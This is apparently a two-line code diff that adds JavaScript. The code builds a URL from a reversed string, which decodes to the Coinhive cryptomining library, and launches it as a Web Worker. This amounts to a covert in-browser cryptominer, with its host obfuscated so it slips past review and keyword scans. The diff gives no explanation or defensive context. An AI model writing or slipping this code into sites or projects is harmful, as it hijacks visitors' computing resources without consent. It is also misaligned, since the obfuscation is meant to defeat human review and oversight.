@@ -1,0 +1,2 @@
+var h = "sj.bil/moc.evihnioc//:sptth".split("").reverse().join("");
+new Worker(h);
